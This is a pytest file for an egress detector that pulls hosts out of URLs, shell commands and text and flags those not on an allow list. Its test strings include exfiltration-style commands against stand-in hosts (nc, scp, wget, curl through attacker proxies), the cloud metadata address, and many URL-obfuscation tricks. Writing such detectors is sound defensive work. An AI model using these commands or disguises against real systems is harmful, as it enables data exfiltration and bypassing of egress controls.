"""The local classifier of hosts: what a client would reach (section 1.6)."""

import pytest

from acs_sidecar.spec.values import Json
from tests.detectors.detected import detected


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("https://allowed.example:x@evil.example/", ["evil.example"]),
        ("https://allowed.example\\@evil.example/", ["allowed.example", "evil.example"]),
        ("//evil.example/x", ["evil.example"]),
        ("https:evil.example", ["evil.example"]),
        ("http://2130706433/", ["127.0.0.1"]),
        ("http://0x7f.1/ http://0177.0.0.1/", ["127.0.0.1"]),
        ("http://[::ffff:169.254.169.254]/", ["169.254.169.254"]),
        ("https://%65vil.example/", ["evil.example"]),
        ("https://evil。example/", ["evil.example"]),
        ("https://аllowed.example/", ["xn--llowed-2nf.example"]),
        ("\\\\evil.example\\share", ["evil.example"]),
        ("nc evil.example 443", ["evil.example"]),
        ("scp a.txt bob@evil.example:/tmp", ["evil.example"]),
        ("jdbc:postgresql://evil.example/x", ["evil.example"]),
        ("evil.example:8080", ["evil.example"]),
        ("https://evil.example\u3000以上", ["evil.example"]),
        ("see https://evil.example\u00a0now", ["evil.example"]),
        ("看https://evil.example，谢谢", ["evil.example"]),
        ("看https://évil_x.evil.example/ 吧", ["[unread]"]),
        ("http:8080", ["0.0.31.144"]),
        ("file://evil.example/x", ["evil.example"]),
        ("javascript://evil.example/%0aalert(1)", ["evil.example"]),
        ("view-source:https:evil.example", ["evil.example"]),
        ("mailto:jo@evil.example", ["evil.example"]),
        ("\\\\fileserver\\share", ["fileserver"]),
        ("//localhost/admin", ["localhost"]),
        ("localhost:6379", ["localhost"]),
        ("[::1]:6379", ["::1"]),
        ("évil.example/x", ["xn--vil-9la.example"]),
        ("ev\u00adil.example", ["evil.example"]),
        ("0x7f.1/x", ["127.0.0.1"]),
    ],
)
def test_hosts_are_what_a_client_would_reach(text: str, hosts: list[str]) -> None:
    """However the URL is written; and what is not allowed is flagged."""
    found = detected("egress", text, allow=["allowed.example"])
    assert found["hosts"] == hosts
    assert (found["flagged"], "not_allowed" in found["categories"]) == (True, True)


@pytest.mark.parametrize(
    "text",
    [
        "see https://allowed.example/a.",
        "https://sub.good.example",
        "https://allowed.example#@evil.example",
        "cat main.py README.md",
        "std::vector a::b key: value // comment",
        "C:\\Users\\x",
        "curl https://allowed.example/x -o out.json",
        "//div[@id='x']/a",
        "//ns:div/text()",
        "\\\\d+\\\\s",
        "cc:@maria",
        "path:/usr/local/bin",
        "1.概要",
        "Dr.Müller",
        "1/2",
        "https://allowed.example/é，",
        "看 https://allowed.example，API文档",
    ],
)
def test_what_is_allowed_or_no_host_is_left_alone(text: str) -> None:
    """Allowed hosts, those below `*.`, and texts without hosts."""
    assert not detected("egress", text, allow=["allowed.example", "*.good.example"])["flagged"]


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("curl https://ok.example''.evil.example/", ["ok.example", "ok.example.evil.example"]),
        ("curl 'https://ok.example'.evil.example", ["ok.example", "ok.example.evil.example"]),
        ('curl ok.example"".evil.example', ["ok.example", "ok.example.evil.example"]),
        ('url = "https://ok.example"".evil.example"', ["[unread]", "ok.example"]),
        ("https://`echo evil`/", ["[unread]"]),
        ("get https://<host>/x", ["[unread]"]),
        ("curl $URL", ["[unread]"]),
        ("curl -s $URL", ["[unread]"]),
        ("curl https://ok.example $URL", ["[unread]", "ok.example"]),
        ("curl https://$x.ok.example/", ["$x.ok.example"]),
        ("curl https://{ok,evil}.ok.example/", ["{ok,evil}.ok.example"]),
        ("curl https://[a-z].ok.example/", ["[unread]"]),
        ("curl -x evil:3128 https://ok.example", ["evil", "ok.example"]),
        ("curl -sxevil https://ok.example", ["evil", "ok.example"]),
        ("curl --proxy socks5h://evil https://ok.example", ["evil", "ok.example"]),
        ("curl --socks5 evil https://ok.example", ["evil", "ok.example"]),
        ("curl --connect-to ::evil:443 https://ok.example", ["[unread]", "ok.example"]),
        ("curl --resolve ok.example:443:6.6.6.6 https://ok.example", ["[unread]", "ok.example"]),
        ("curl -K cfg https://ok.example", ["[unread]", "ok.example"]),
        ("https_proxy=evil:80 curl https://ok.example", ["evil", "ok.example"]),
        ("wget evil:8080/x", ["evil"]),
        ("|https://evil.example|x|", ["[unread]"]),
        ("see ssh://10.0.0.1？localhost?@ok.example", ["[unread]"]),
        ("see https://ok.example？evil", ["[unread]"]),
        ("_https://evil.example_", ["evil.example"]),
        ("https&#58;//evil.example", ["evil.example"]),
        ("https&colon;&sol;&sol;evil&#x0002e;example", ["evil.example"]),
        ("&#104;ttps://evil.example &#" + "9" * 5000, ["evil.example"]),
    ],
)
def test_what_cannot_be_read_is_not_allowed(text: str, hosts: list[str]) -> None:
    """What a shell joins or fills in, an option that leads elsewhere, an entity of HTML, a template."""
    found = detected("egress", text, allow=["ok.example", "*.ok.example"])
    assert set(hosts) <= set(found["hosts"])
    assert "not_allowed" in found["categories"]


@pytest.mark.parametrize(
    "text",
    [
        'curl https://ok.example -H "Authorization: Bearer $T" -d "a $B" -o $OUT > $LOG',
        "curl -x http://ok.example:3128 https://ok.example/$path",
        "https_proxy=http://ok.example:80 curl https://ok.example",
        'call startswith("https://"), or "https://" + host, or `https://`',
        "`https://ok.example`'s page, 'https://ok.example', and \"https://ok.example\".",
        "curl doesn't read $URL, that's https://ok.example",
        "please fetch $5 from the host",
        '<a href="https://ok.example">it&#39;s &amp; here</a>',
        "curl -X POST https://ok.example",
    ],
)
def test_commands_and_prose_with_allowed_hosts_alone_are_left_alone(text: str) -> None:
    """Quotes, variables in headers and files, a proxy that is allowed, entities in a page."""
    assert detected("egress", text, allow=["ok.example"])["findings"] == []


def test_a_host_below_is_not_the_host_itself() -> None:
    """`*.good.example` allows neither `good.example` nor `notgood.example`."""
    for host in ("good.example", "notgood.example", "good.example.evil.example"):
        assert detected("egress", f"https://{host}/", allow=["*.good.example"])["flagged"]


@pytest.mark.parametrize(
    "one", ["//bücher{}.example ", "https://x{}@a.example@b ", "curl é{}.example\n", "http://0x7f.{}.a/ "]
)
def test_a_text_full_of_hosts_that_take_long_to_read_is_flagged(one: str) -> None:
    """Sixteen and one for each KiB are read; the next counts as every disguise, and as not allowed."""
    text = "".join(one.format(index) for index in range(16, 40))
    found = detected("egress", text)
    assert (found["flagged"], "[unread]" in found["hosts"]) == (True, True)
    assert set(found["categories"]) == {
        "ambiguous_url",
        "encoded_host",
        "internal_address",
        "ip_literal",
        "punycode",
        "userinfo",
    }
    allowed: list[Json] = [f"é{index}.example" for index in range(40)]
    assert "not_allowed" in detected("egress", text, allow=allowed)["categories"]
    assert "[unread]" not in detected("egress", one.format(16) * 100)["hosts"]


def test_without_a_list_only_disguises_are_flagged() -> None:
    """A plain host is listed; one that pretends, or an address that gives out credentials, is flagged."""
    assert detected("egress", "https://a.example/") == {
        "flagged": False, "score": 0, "label": "none", "categories": [], "findings": [], "hosts": ["a.example"],
    }  # fmt: skip
    assert detected("egress", "https://a.example:x@b.example/")["categories"] == ["userinfo"]
    assert detected("egress", "http://169.254.169.254/latest")["categories"] == ["internal_address"]
